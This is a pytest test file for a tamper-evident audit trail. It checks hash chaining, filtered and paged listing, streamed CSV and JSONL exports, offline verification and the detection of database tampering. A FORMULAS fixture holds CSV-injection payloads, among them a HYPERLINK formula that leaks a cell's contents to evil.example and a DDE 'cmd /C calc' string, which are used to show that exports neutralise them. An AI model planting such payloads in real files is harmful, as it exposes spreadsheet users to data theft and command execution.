"""The audit trail: the hash chain, reading and filtering, exports verified offline, tampering found,
and PostgreSQL refusing to change history."""

from __future__ import annotations

import csv
import itertools
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from pydantic import TypeAdapter
from sqlalchemy.engine import Engine
from sqlmodel import Session

from app.audit import service as audit_service
from app.audit.chain import as_dict, chain_hash
from app.audit.models import AuditEvent
from app.audit.schemas import EventPage, EventRead
from app.cli import main as cli_main
from tests.helpers import act, apply_now, assert_problem

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def trail(client: Any, engine: Engine, auth: Any, make_override: Any) -> int:
    """A small history with awkward text (quotes, commas, newlines, non-ASCII); returns its length."""
    first = make_override(justification='Bücher GmbH: "TLSA" stale, since 09:00;\nmail queued ✓')
    act(client, first["id"], "approve", auth("bob", "approver"), comment='ok, checked, "fine"')
    apply_now(engine, first["id"])
    second = make_override(destination="example.net")
    act(client, second["id"], "approve", auth("erin", "auditor"))  # refused: on record too
    act(client, second["id"], "cancel", auth("alice", "requester"), comment="fixed by the recipient")
    response = client.get("/v1/audit/verify", headers=auth("erin", "auditor"))
    assert response.status_code == 200
    checked: int = response.json()["checked"]
    return checked


def _verify(client: Any, auth: Any) -> dict[str, Any]:
    response = client.get("/v1/audit/verify", headers=auth("erin", "auditor"))
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


def test_chain_links_every_event(client: Any, auth: Any, trail: int) -> None:
    assert _verify(client, auth) == {
        "valid": True,
        "checked": 7,
        "first_broken": None,
        "reason": None,
        "checkpoints": 0,
        "anchored_through": None,
    }
    items = client.get("/v1/audit", headers=auth("erin", "auditor")).json()["items"]
    assert [(e["seq"], e["action"], e["actor"]) for e in items] == [
        (1, "override.created", "alice"),
        (2, "vote.approve", "bob"),
        (3, "override.approved", "bob"),
        (4, "override.applied", "worker"),
        (5, "override.created", "alice"),
        (6, "auth.refused", "erin"),
        (7, "override.cancelled", "alice"),
    ]
    assert items[0]["prev_hash"] == "0" * 64
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(items))
    assert len({e["hash"] for e in items}) == 7


def test_list_filters_and_pagination(client: Any, auth: Any, trail: int) -> None:
    auditor = auth("erin", "auditor")

    def page(**params: Any) -> dict[str, Any]:
        response = client.get("/v1/audit", params=params, headers=auditor)
        assert response.status_code == 200, response.text
        result: dict[str, Any] = response.json()
        return result

    assert [e["actor"] for e in page(action="override.created")["items"]] == ["alice", "alice"]
    assert {e["action"] for e in page(actor="bob")["items"]} == {"vote.approve", "override.approved"}
    assert all(e["override_id"] == 2 for e in page(override_id=2)["items"])
    assert page(action="auth.refused")["items"][0]["actor"] == "erin"
    seen: list[int] = []
    cursor = None
    while True:
        result = page(limit=3, **({"cursor": cursor} if cursor else {}))
        seen += [e["seq"] for e in result["items"]]
        cursor = result["next_cursor"]
        if cursor is None:
            break
    assert seen == list(range(1, trail + 1))
    assert_problem(client.get("/v1/audit", params={"cursor": "bm9wZQ"}, headers=auditor), 422, field="query.cursor")
    assert_problem(client.get("/v1/audit", params={"limit": 501}, headers=auditor), 422, field="query.limit")


def test_a_page_is_the_models_page_byte_for_byte(client: Any, engine: Engine, auth: Any, trail: int) -> None:
    """The page is encoded from the columns (no model per row): the same bytes as `EventPage` of `EventRead`s
    validated from each stored event, for every filter and across pages, with nulls, nested JSON and
    non-ASCII text in the rows."""
    auditor = auth("erin", "auditor")
    with Session(engine) as session:
        events = list(session.exec(sa.select(AuditEvent).order_by(AuditEvent.seq)).scalars())  # type: ignore[call-overload, arg-type]

    def models(chosen: list[AuditEvent], next_cursor: str | None) -> bytes:
        items = [EventRead.model_validate(as_dict(event)) for event in chosen]
        return TypeAdapter(EventPage).dump_json(EventPage(items=items, next_cursor=next_cursor))

    assert any(e.via is None for e in events) and any(e.before for e in events) and any(e.after for e in events)
    for params, chosen in (
        ({}, events),
        ({"action": "override.created"}, [e for e in events if e.action == "override.created"]),
        ({"actor": "bob"}, [e for e in events if e.actor == "bob"]),
        ({"override_id": 2}, [e for e in events if e.override_id == 2]),
        ({"action": "override.created", "actor": "alice", "override_id": 1}, events[:1]),
    ):
        answer = client.get("/v1/audit", params=params, headers=auditor)
        assert answer.status_code == 200 and answer.content == models(chosen, None), params
    cursor = client.get("/v1/audit", params={"limit": 3}, headers=auditor).json()["next_cursor"]
    answer = client.get("/v1/audit", params={"limit": 3, "cursor": cursor}, headers=auditor)
    assert answer.content == models(events[3:6], answer.json()["next_cursor"])
    assert answer.json()["next_cursor"] is not None


def _export(client: Any, auth: Any, fmt: str, path: Path) -> str:
    with client.stream("GET", "/v1/audit/export", params={"format": fmt}, headers=auth("root", "admin")) as response:
        assert response.status_code == 200
        assert "content-length" not in response.headers  # streamed, not buffered
        chunks = list(response.iter_text())
        content_type = response.headers["content-type"]
        disposition = response.headers["content-disposition"]
    assert len(chunks) > 1
    assert f'filename="audit.{fmt}"' in disposition
    path.write_text("".join(chunks), encoding="utf-8", newline="")
    return str(content_type)


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "app", "audit", "verify", *args],
        cwd=ROOT,
        env={**os.environ, **(env or {})},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def _finish(process: subprocess.Popen[str]) -> tuple[int, dict[str, Any]]:
    out, err = process.communicate(timeout=60)
    assert out, err
    return process.returncode, json.loads(out.strip().splitlines()[-1])


def test_exports_verify_offline(client: Any, auth: Any, trail: int, tmp_path: Path) -> None:
    jsonl, csv_file = tmp_path / "audit.jsonl", tmp_path / "audit.csv"
    assert _export(client, auth, "jsonl", jsonl).startswith("application/x-ndjson")
    assert _export(client, auth, "csv", csv_file).startswith("text/csv")
    lines = jsonl.read_text(encoding="utf-8").splitlines()
    assert len(lines) == trail and json.loads(lines[0])["seq"] == 1
    assert csv_file.read_text(encoding="utf-8").startswith("seq,at,actor,via,action,override_id,before,after,")
    # the real command line, both formats at once
    runs = [_cli("--file", str(jsonl)), _cli("--file", str(csv_file))]
    for process in runs:
        code, result = _finish(process)
        assert (code, result["valid"], result["checked"]) == (0, True, trail)


def test_a_tampered_export_is_caught(
    client: Any, auth: Any, trail: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    jsonl, csv_file = tmp_path / "audit.jsonl", tmp_path / "audit.csv"
    _export(client, auth, "jsonl", jsonl)
    _export(client, auth, "csv", csv_file)

    def verify(path: Path, fmt: str | None = None) -> tuple[int, dict[str, Any]]:
        code = cli_main(["audit", "verify", "--file", str(path), *(["--format", fmt] if fmt else [])])
        return code, json.loads(capsys.readouterr().out)

    lines = jsonl.read_text(encoding="utf-8").splitlines(keepends=True)
    edited = json.loads(lines[2])
    edited["comment"] = "approved by the CEO"
    (tmp_path / "edited.jsonl").write_text("".join([*lines[:2], json.dumps(edited) + "\n", *lines[3:]]))
    assert verify(tmp_path / "edited.jsonl") == (
        1,
        {
            "valid": False,
            "checked": 2,
            "first_broken": 3,
            "reason": "hash does not match content",
            "checkpoints": 0,
            "anchored_through": None,
        },
    )
    (tmp_path / "gap.jsonl").write_text("".join([*lines[:3], *lines[4:]]))
    code, result = verify(tmp_path / "gap.jsonl")
    assert (code, result["first_broken"]) == (1, 4) and "sequence gap" in result["reason"]
    text = csv_file.read_text(encoding="utf-8")
    assert text.count(",bob,,vote.approve,") == 1
    (tmp_path / "edited.txt").write_text(text.replace(",bob,,vote.approve,", ",eve,,vote.approve,"), newline="")
    code, result = verify(tmp_path / "edited.txt", "csv")
    assert (code, result["first_broken"]) == (1, 2)


FORMULAS = {
    "justification": '=HYPERLINK("https://evil.example/?leak="&A1,"TLSA details (click)")',
    "plus": "+1 approved by phone",
    "minus": "-1 from the quota, fine",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "quote": "'a comment that really starts with a quote",
    "quotes": "''two of them",
}


def test_csv_cells_are_no_formulas_and_still_verify(
    client: Any, engine: Engine, auth: Any, make_override: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """OWASP CSV injection: no cell starts with = + - @ tab CR LF; the verifier undoes the `'` exactly."""
    from app.audit.export import parse_export
    from app.audit.service import record
    from app.core.db import transaction

    make_override(justification=FORMULAS["justification"])
    with transaction(engine) as session:  # text the API would strip or refuse can still reach the trail
        for name, text in FORMULAS.items():
            if name != "justification":
                record(session, actor=text, via=text, action="override.commented", comment=text)
    jsonl, csv_file = tmp_path / "audit.jsonl", tmp_path / "audit.csv"
    _export(client, auth, "jsonl", jsonl)
    _export(client, auth, "csv", csv_file)

    with csv_file.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    comments = [row[8] for row in rows]
    assert comments[0] == "'" + FORMULAS["justification"]
    assert comments[-2:] == ["''a comment that really starts with a quote", "'''two of them"]
    assert rows[-1][2] == rows[-1][3] == "'''two of them"  # actor and via too: every cell

    # Read back, every value is what was recorded: the same events as the JSON Lines export.
    with csv_file.open(encoding="utf-8", newline="") as handle:
        from_csv = list(parse_export(handle, "csv"))
    with jsonl.open(encoding="utf-8") as handle:
        assert from_csv == list(parse_export(handle, "jsonl"))
    assert [e["comment"] for e in from_csv[1:]] == [t for n, t in FORMULAS.items() if n != "justification"]
    assert cli_main(["audit", "verify", "--file", str(csv_file)]) == 0, capsys.readouterr()
    assert json.loads(capsys.readouterr().out)["valid"] is True


def _raw(engine: Engine, statement: str, **params: Any) -> None:
    with engine.begin() as conn:
        conn.execute(sa.text(statement), params)


def test_tampering_in_the_database_is_pointed_at(
    client: Any, engine: Engine, auth: Any, trail: int, backend: str, database_url: str
) -> None:
    if backend == "postgres":  # the append-only trigger would refuse: switch it off, as only a superuser can
        _raw(engine, "ALTER TABLE audit_event DISABLE TRIGGER audit_event_no_update_delete")
    _raw(engine, "UPDATE audit_event SET comment = 'nothing to see' WHERE seq = 3")
    assert _verify(client, auth) == {
        "valid": False,
        "checked": 2,
        "first_broken": 3,
        "reason": "hash does not match content",
        "checkpoints": 0,
        "anchored_through": None,
    }
    env = {"TLSO_ENV": "test", "TLSO_DATABASE_URL": database_url}
    code, result = _finish(_cli(env=env))
    assert (code, result["valid"], result["first_broken"]) == (1, False, 3)


def test_a_rehashed_row_breaks_the_link_to_the_next(
    client: Any, engine: Engine, auth: Any, trail: int, backend: str
) -> None:
    if backend == "postgres":
        _raw(engine, "ALTER TABLE audit_event DISABLE TRIGGER audit_event_no_update_delete")
    with Session(engine) as session:  # the forger knows the algorithm: row 2 alone verifies again
        event = session.get(AuditEvent, 2)
        assert event is not None
        row = as_dict(event) | {"comment": "forged"}
    _raw(
        engine,
        "UPDATE audit_event SET comment = 'forged', hash = :h WHERE seq = 2",
        h=chain_hash(row["prev_hash"], row),
    )
    result = _verify(client, auth)
    assert (result["first_broken"], result["reason"]) == (3, "prev_hash does not link")


def test_deleting_the_newest_rows_is_noticed(client: Any, engine: Engine, auth: Any, trail: int, backend: str) -> None:
    if backend == "postgres":
        _raw(engine, "ALTER TABLE audit_event DISABLE TRIGGER audit_event_no_update_delete")
    _raw(engine, "DELETE FROM audit_event WHERE seq >= :seq", seq=trail - 1)
    result = _verify(client, auth)
    assert (result["valid"], result["first_broken"]) == (False, trail - 1)
    assert "chain head" in result["reason"]


def test_postgres_refuses_to_change_history(engine: Engine, backend: str, trail: int, subtests: Any) -> None:
    if backend != "postgres":
        pytest.skip("SQLite has no such trigger; its tampering is caught by verify (above)")
    for statement in (
        "UPDATE audit_event SET comment = 'x' WHERE seq = 1",
        "DELETE FROM audit_event WHERE seq = 1",
        "TRUNCATE audit_event",
    ):
        with subtests.test(statement=statement.split()[0]):
            with pytest.raises(sa.exc.DBAPIError) as caught:
                _raw(engine, statement)
            assert "append-only" in str(caught.value)
            assert getattr(caught.value.orig, "sqlstate", None) == "42501"  # insufficient_privilege
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM audit_event")).scalar_one() == trail


@pytest.mark.parametrize("backend", ["sqlite"])  # PostgreSQL readers never block writers anyway
def test_a_slow_export_download_does_not_block_writes(live_server: Any, engine: Engine, auth: Any) -> None:
    import httpx

    from app.audit.service import record
    from app.core.db import transaction

    with transaction(engine) as session:  # a trail far larger than the socket buffers
        for n in range(3000):
            record(session, actor="alice", action="override.created", override_id=None, comment=f"filler {n:05d}" * 8)
    http = httpx.Client(base_url=live_server.url, timeout=10)
    with http, http.stream("GET", "/v1/audit/export", headers=auth("erin", "auditor")) as download:
        first = next(download.iter_lines())  # the download has begun, and stalls here
        assert json.loads(first)["seq"] == 1
        created = http.post(
            "/v1/overrides",
            json={
                "destination": "example.org",
                "policy": "encrypt",
                "justification": "Recipient TLSA records are stale after a rollover.",
            },
            headers=auth("alice", "requester"),
            timeout=5,
        )
        assert created.status_code == 201, created.text


def test_rows_are_hashed_as_stored_without_reencoding(
    client: Any, engine: Engine, auth: Any, trail: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The service stores JSON in the hashed (canonical) form, so verification hashes the stored text as it
    is; the reference hashing (parse, re-encode) is not needed for a row the service wrote."""
    with engine.connect() as conn:
        stored = conn.execute(sa.text("SELECT after FROM audit_event WHERE seq = 1")).scalar_one()
    text = stored if isinstance(stored, str) else json.dumps(stored)
    if isinstance(stored, str):
        assert text == json.dumps(json.loads(text), sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    import app.audit.service as service

    reference = []
    monkeypatch.setattr(service, "chain_hash", lambda prev, row: reference.append(row["seq"]) or chain_hash(prev, row))
    assert _verify(client, auth)["valid"] is True
    assert reference == []


def test_rows_stored_in_another_json_form_verify_the_reference_way(client: Any, engine: Engine, auth: Any) -> None:
    """Rows written before JSON was stored canonically (json.dumps' default spacing) still verify, and a
    change to one is still found."""
    prev = "0" * 64
    rows = []
    for seq in (1, 2):
        event = AuditEvent(
            seq=seq,
            at=datetime(2026, 1, 1, 12, 0, seq, 5, tzinfo=UTC),
            actor="Jürgen",
            via=None,
            action="override.created",
            override_id=seq,
            before={"b": 1, "a": 'x "q" ✓'} if seq == 2 else None,
            after={"state": "pending", "n": [1, 2.5, None]},
            comment=None,
            prev_hash=prev,
            hash="",
        )
        event.hash = prev = chain_hash(prev, as_dict(event))
        rows.append(event)
    with engine.begin() as conn:
        for event in rows:
            conn.execute(
                sa.text(
                    "INSERT INTO audit_event (seq, at, actor, via, action, override_id, before, after, comment, "
                    "prev_hash, hash) VALUES (:seq, :at, :actor, NULL, :action, :oid, :before, :after, NULL, :prev, "
                    ":hash)"
                ),
                {
                    "seq": event.seq,
                    "at": event.at.replace(tzinfo=None),
                    "actor": event.actor,
                    "action": event.action,
                    "oid": event.override_id,
                    "before": None if event.before is None else json.dumps(event.before),
                    "after": json.dumps(event.after),
                    "prev": event.prev_hash,
                    "hash": event.hash,
                },
            )
        conn.execute(sa.text("UPDATE audit_head SET seq = 2, hash = :h WHERE id = 1"), {"h": prev})
    assert _verify(client, auth)["valid"] is True
    with engine.begin() as conn:
        if engine.dialect.name == "postgresql":
            conn.execute(sa.text("ALTER TABLE audit_event DISABLE TRIGGER audit_event_no_update_delete"))
        conn.execute(
            sa.text("""UPDATE audit_event SET after = '{"state": "active", "n": [1, 2.5, null]}' WHERE seq = 1""")
        )
    result = _verify(client, auth)
    assert (result["valid"], result["first_broken"], result["reason"]) == (False, 1, "hash does not match content")


def test_the_statement_writes_times_as_python_and_refuses_any_other_text(
    engine: Engine, backend: str, subtests: Any
) -> None:
    """`at`'s text as the one-statement append writes it is `datetime.isoformat()`'s, and its check
    (what lets it commit with no look from Python) accepts that text only."""
    if backend != "postgres":
        pytest.skip("the one-statement append is PostgreSQL's")
    written = sa.text(f"SELECT {audit_service._AT_TEXT} FROM (SELECT CAST(:ts AS TIMESTAMP) AS ts) AS n")
    checked = sa.text(
        f"SELECT {audit_service._AT_CHECKED} FROM (SELECT CAST(:ts AS TIMESTAMP) AS ts, "
        "CAST(:text AS VARCHAR) AS at_text) AS t"
    )
    times = [
        datetime(2026, 12, 7, 9, 30, 1, 0, tzinfo=UTC),
        datetime(2026, 12, 7, 9, 30, 1, 1, tzinfo=UTC),
        datetime(2026, 12, 7, 9, 30, 1, 250000, tzinfo=UTC),
        datetime(2028, 2, 29, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(1999, 1, 1, 0, 0, 0, 10, tzinfo=UTC),
    ]
    with engine.connect() as conn:
        for at in times:
            naive, text = at.replace(tzinfo=None), at.isoformat()
            with subtests.test(at=text):
                assert conn.execute(written, {"ts": naive}).scalar_one() == text
                assert conn.execute(checked, {"ts": naive, "text": text}).scalar_one() is True
                others = [
                    text.replace("T", " "),
                    text.replace("+00:00", "Z"),
                    text.replace("+00:00", "+01:00"),
                    (at + timedelta(microseconds=1)).isoformat(),
                    at.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")
                    if at.microsecond == 0
                    else at.strftime("%Y-%m-%dT%H:%M:%S+00:00"),
                    at.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-1] + "+00:00",
                ]
                for other in others:
                    assert conn.execute(checked, {"ts": naive, "text": other}).scalar_one() is False, other
